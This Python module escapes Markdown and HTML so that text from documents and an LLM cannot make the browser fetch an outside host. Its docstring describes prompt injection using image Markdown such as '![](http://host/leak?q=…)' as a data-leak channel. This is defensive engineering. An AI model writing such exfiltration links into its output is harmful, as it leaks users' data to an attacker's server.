"""Markdown that cannot make the browser reach another host (pure).

Answers, summaries and quoted sources come from documents and from the LLM, so they may carry
``![](http://host/leak?q=…)``: rendered as Markdown, the browser would fetch it, a data-leak
channel for prompt injection. Before such text is handed to ``st.markdown`` every construct that
can produce an image or a link is neutralised: brackets (inline, reference and image syntax),
angle brackets (autolinks, HTML), and bare URLs (GFM autolink literals) are escaped so that they
show as the plain characters they are. Emphasis, headings and lists still render.
"""

from __future__ import annotations

import html
import re

_BARE_URL = re.compile(r"(?i)\b(https?|ftp|file)(:)(//)|\b(www)(\.)")


def safe_markdown(text: str) -> str:
    """`text` with links, images, autolinks and raw HTML shown literally."""
    text = text.replace("\\", "\\\\")  # a backslash in the text must not start an escape of ours
    text = text.replace("[", "\\[").replace("]", "\\]").replace("<", "\\<").replace(">", "\\>")
    return _BARE_URL.sub(_escape_url_start, text)


def safe_html_text(text: str) -> str:
    """`text` HTML-escaped for a raw-HTML block, with URL starts broken so nothing autolinks."""
    return _BARE_URL.sub(_entity_url_start, html.escape(text))


def _entity_url_start(m: re.Match[str]) -> str:
    if m.group(1):
        return f"{m.group(1)}&#58;//"
    return f"{m.group(4)}&#46;"


def _escape_url_start(m: re.Match[str]) -> str:
    if m.group(1):
        return f"{m.group(1)}\\:\\/\\/"
    return f"{m.group(4)}\\."
